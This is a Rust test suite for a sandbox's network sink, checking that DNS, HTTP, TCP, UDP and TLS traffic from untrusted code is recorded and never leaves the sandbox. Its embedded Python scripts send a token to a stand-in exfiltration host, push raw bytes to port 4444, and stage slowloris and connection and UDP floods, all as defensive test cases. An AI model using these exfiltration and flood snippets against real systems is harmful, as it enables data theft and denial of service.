//! The network sink against the real engine: every protocol a test may try is recorded,
//! nothing leaves, the allowlist reaches what it allows and nothing else, and the sink holds
//! under hostile traffic. (Runs under runc only: gVisor runs with `network = "none"`.)

mod sandbox_support;

use std::io::Read;
use std::net::TcpListener;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use sandbox_support::*;
use skill_verifier::package::Runtime;
use skill_verifier::sandbox::{Isolation, Policy, RunOutcome, Runner};
use skill_verifier::sink::record::{Observation, Protocol};

fn skip_under_gvisor() -> bool {
    isolation() == Isolation::Gvisor
}

fn observe() -> Policy {
    Policy {
        network: "observe".into(),
        ..policy()
    }
}

async fn python(
    r: &skill_verifier::sandbox::DockerRunner,
    inst: &str,
    script: &str,
    p: &Policy,
) -> RunOutcome {
    let t = tree(&[("t.py", script, false)]);
    run_in(
        r,
        inst,
        Runtime::Python,
        "python3 t.py",
        Some(30),
        p,
        t.path(),
    )
    .await
    .unwrap()
}

fn seen(out: &RunOutcome) -> Vec<Observation> {
    out.network
        .as_ref()
        .expect("a network report")
        .observed
        .clone()
}

fn find<'a>(
    obs: &'a [Observation],
    protocol: Protocol,
    host: Option<&str>,
) -> Option<&'a Observation> {
    obs.iter()
        .find(|o| o.protocol == protocol && (host.is_none() || o.host.as_deref() == host))
}

/// A TCP listener on the host that counts connections: the sink must keep it at zero.
fn host_listener() -> (u16, Arc<AtomicUsize>) {
    let l = TcpListener::bind("0.0.0.0:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let hits = Arc::new(AtomicUsize::new(0));
    let h = hits.clone();
    std::thread::spawn(move || {
        for c in l.incoming() {
            h.fetch_add(1, Ordering::SeqCst);
            if let Ok(mut c) = c {
                let mut buf = [0u8; 64];
                let _ = c.read(&mut buf);
            }
        }
    });
    (port, hits)
}

/// The engine's bridge gateway: the host's address as a container sees it.
fn bridge_gateway() -> String {
    let out = std::process::Command::new("docker")
        .args([
            "network",
            "inspect",
            "bridge",
            "-f",
            "{{(index .IPAM.Config 0).Gateway}}",
        ])
        .output()
        .expect("docker CLI");
    let gw = String::from_utf8_lossy(&out.stdout).trim().to_string();
    if gw.is_empty() {
        "172.17.0.1".into()
    } else {
        gw
    }
}

#[tokio::test]
async fn every_protocol_is_recorded_and_nothing_leaves() {
    if skip_under_gvisor() {
        return;
    }
    let Some(r) = runner().await else { return };
    let inst = instance();
    let (port, hits) = host_listener();
    let gw = bridge_gateway();
    let script = format!(
        r#"
import socket, ssl, subprocess, urllib.request
print(subprocess.run(["getent", "hosts", "lookup.example"], capture_output=True, text=True).stdout)
try:
    urllib.request.urlopen("http://exfil.example/collect?token=s3cret", timeout=5)
except Exception as e:
    print("http:", e)
s = socket.create_connection(("203.0.113.7", 4444), timeout=5)
s.sendall(b"raw-payload-bytes")
s.close()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b"udp-datagram", ("198.51.100.9", 5353))
u.close()
try:
    ctx = ssl.create_default_context()
    with socket.create_connection(("tls.example", 443), timeout=5) as raw:
        with ctx.wrap_socket(raw, server_hostname="tls.example") as t:
            pass
except Exception as e:
    print("tls:", type(e).__name__)
try:
    h = socket.create_connection(("{gw}", {port}), timeout=5)
    h.sendall(b"to-the-host")
    h.close()
except Exception as e:
    print("host:", e)
print("done")
"#
    );
    let out = python(&r, &inst, &script, &observe()).await;
    let stdout = text(&out.stdout);
    assert_eq!(out.exit_code, 0, "{out:?} {stdout} {}", text(&out.stderr));
    assert!(stdout.contains("lookup.example"), "{stdout}");
    assert!(
        stdout.contains("403"),
        "the sink answers HTTP itself: {stdout}"
    );
    let obs = seen(&out);
    let dns: Vec<_> = obs
        .iter()
        .filter(|o| o.protocol == Protocol::Dns && o.host.as_deref() == Some("lookup.example"))
        .filter_map(|o| o.qtype.as_deref())
        .collect();
    assert!(dns.contains(&"A"), "{dns:?}");
    let http = find(&obs, Protocol::Http, Some("exfil.example")).expect("http");
    assert_eq!(http.method.as_deref(), Some("GET"));
    assert_eq!(http.path.as_deref(), Some("/collect?token=s3cret"));
    assert_eq!(http.port, Some(80));
    assert!(
        http.first_bytes_sha256.is_some()
            && http.excerpt.as_deref().unwrap().starts_with("GET /collect")
    );
    let tcp = obs
        .iter()
        .find(|o| o.protocol == Protocol::Tcp && o.address.as_deref() == Some("203.0.113.7"))
        .expect("tcp to a literal IP");
    assert_eq!(tcp.port, Some(4444));
    assert_eq!(tcp.excerpt.as_deref(), Some("raw-payload-bytes"));
    let udp = obs
        .iter()
        .find(|o| o.protocol == Protocol::Udp && o.address.as_deref() == Some("198.51.100.9"))
        .expect("udp");
    assert_eq!(udp.port, Some(5353));
    assert_eq!(udp.excerpt.as_deref(), Some("udp-datagram"));
    let tls = find(&obs, Protocol::Tls, Some("tls.example")).expect("tls sni");
    assert_eq!(tls.port, Some(443));
    let to_host = obs
        .iter()
        .find(|o| o.address.as_deref() == Some(gw.as_str()) && o.port == Some(port))
        .expect("the connect to the host's bridge address is trapped too");
    assert_eq!(to_host.protocol, Protocol::Tcp);
    assert!(obs.iter().all(|o| !o.allowed));
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "a connection reached the host"
    );
    assert_no_leftovers(&r, &inst).await;
}

#[tokio::test]
async fn a_reachable_host_gets_no_real_content() {
    if skip_under_gvisor() {
        return;
    }
    let Some(r) = runner().await else { return };
    let inst = instance();
    // pypi.org is reachable from this machine; through the sink it must not be.
    let script = r#"
import urllib.request
try:
    body = urllib.request.urlopen("http://pypi.org/simple/six/", timeout=5).read()
    print("GOT", body[:200])
except urllib.error.HTTPError as e:
    print("status", e.code, e.read()[:200])
"#;
    let out = python(&r, &inst, script, &observe()).await;
    let stdout = text(&out.stdout);
    assert!(stdout.contains("status 403"), "{stdout}");
    assert!(stdout.contains("skill-verifier sink"), "{stdout}");
    assert!(
        !stdout.contains("six-"),
        "real index content leaked in: {stdout}"
    );
    let obs = seen(&out);
    assert!(
        find(&obs, Protocol::Http, Some("pypi.org")).is_some(),
        "{obs:?}"
    );
    assert_no_leftovers(&r, &inst).await;
}

#[tokio::test]
async fn the_allowlist_reaches_an_allowed_host_and_sinks_the_rest() {
    if skip_under_gvisor() {
        return;
    }
    let Some(r) = runner().await else { return };
    let inst = instance();
    let (port, hits) = host_listener();
    let gw = bridge_gateway();
    let p = Policy {
        network: "allowlist".into(),
        ..policy()
    };
    let script = format!(
        r#"
import socket, ssl, urllib.request
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
try:
    r = urllib.request.urlopen("https://pypi.org/simple/six/", timeout=20, context=ctx)
    body = r.read()
    print("allowed", r.status, b"six-1.16.0" in body)
except Exception as e:
    print("allowed failed", e)
try:
    urllib.request.urlopen("https://evil.example/x", timeout=5, context=ctx)
except Exception as e:
    print("denied", type(e).__name__)
try:
    urllib.request.urlopen("http://{gw}:{port}/metadata", timeout=5)
except Exception as e:
    print("private", e)
"#
    );
    let t = tree(&[("t.py", &script, false)]);
    let mut s = spec(&inst, Runtime::Python, "python3 t.py", Some(60), &p);
    s.allow = vec!["pypi.org".into(), gw.clone()];
    let (_dir, tar) = tar_of(t.path());
    let out = r
        .run(&s, &tar, tokio_util::sync::CancellationToken::new())
        .await
        .unwrap();
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("allowed 200 True"),
        "{stdout} {}",
        text(&out.stderr)
    );
    assert!(stdout.contains("denied"), "{stdout}");
    let obs = seen(&out);
    let pypi = find(&obs, Protocol::Tls, Some("pypi.org")).expect("tls pypi.org");
    assert!(pypi.allowed, "{pypi:?}");
    let evil = find(&obs, Protocol::Tls, Some("evil.example")).expect("tls evil.example");
    assert!(!evil.allowed);
    // Allowed by name, but a private address: refused, and the host saw nothing.
    let private = obs
        .iter()
        .find(|o| o.protocol == Protocol::Http && o.port == Some(port))
        .expect("the private destination is recorded");
    assert!(!private.allowed, "{private:?}");
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "a connection reached the host"
    );
    assert_no_leftovers(&r, &inst).await;
}

#[tokio::test]
async fn hostile_traffic_is_bounded_and_the_sink_still_reports() {
    if skip_under_gvisor() {
        return;
    }
    let Some(r) = runner().await else { return };
    let inst = instance();
    let script = r#"
import os, socket, time, threading
# A 10 MB HTTP header.
s = socket.create_connection(("big.example", 80), timeout=10)
try:
    s.sendall(b"GET / HTTP/1.1\r\nHost: big.example\r\nX-Big: " + b"a" * (10 * 1024 * 1024))
except Exception as e:
    print("big:", type(e).__name__)
s.close()
# Slowloris: connections that send a byte now and then.
slow = []
for _ in range(20):
    c = socket.create_connection(("slow.example", 80), timeout=10)
    c.sendall(b"G")
    slow.append(c)
# Thousands of connections.
opened = 0
for i in range(2000):
    try:
        c = socket.create_connection(("10.8.%d.%d" % (i // 250, i % 250 + 1), 80), timeout=5)
        c.close()
        opened += 1
    except Exception:
        pass
print("opened", opened)
# Garbage to the DNS port.
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(50):
    u.sendto(os.urandom(200), ("10.9.9.9", 53))
# A UDP flood over many ports.
for i in range(20000):
    u.sendto(b"f" * 512, ("10.9.9.10", 1000 + (i % 3000)))

time.sleep(1)
# Still answered after all that.
print(socket.gethostbyname("after.example"))
"#;
    let begun = Instant::now();
    let p = Policy {
        nofile: 4096,
        ..observe()
    };
    let out = python(&r, &inst, script, &p).await;
    let took = begun.elapsed();
    let stdout = text(&out.stdout);
    assert_eq!(out.exit_code, 0, "{stdout} {}", text(&out.stderr));
    assert!(stdout.contains("198.18."), "DNS still answers: {stdout}");
    let report = out.network.as_ref().unwrap();
    assert!(report.observed.len() <= skill_verifier::sink::record::MAX_ENTRIES);
    assert!(
        report.dropped > 0,
        "the flood of distinct destinations is counted"
    );
    let big = report
        .observed
        .iter()
        .find(|o| o.protocol == Protocol::Http && o.host.as_deref() == Some("big.example"))
        .unwrap_or_else(|| {
            panic!(
                "the big header is recorded: {:?}",
                &report.observed[..20.min(report.observed.len())]
            )
        });
    let excerpt = big
        .excerpt
        .as_ref()
        .unwrap_or_else(|| panic!("{big:?} {stdout}"));
    assert!(excerpt.len() <= 4 * skill_verifier::sink::record::EXCERPT_BYTES);
    assert!(took < Duration::from_secs(60), "took {took:?}");
    assert_no_leftovers(&r, &inst).await;
}

#[tokio::test]
async fn none_has_no_sink_and_no_report() {
    let Some(r) = runner().await else { return };
    let inst = instance();
    let p = Policy {
        network: "none".into(),
        ..policy()
    };
    let out = python(
        &r,
        &inst,
        "import socket\ntry:\n    socket.create_connection(('203.0.113.7', 80), timeout=2)\nexcept OSError as e:\n    print('refused', e.errno)\n",
        &p,
    )
    .await;
    assert!(text(&out.stdout).contains("refused"), "{out:?}");
    assert!(out.network.is_none());
    assert_no_leftovers(&r, &inst).await;
}
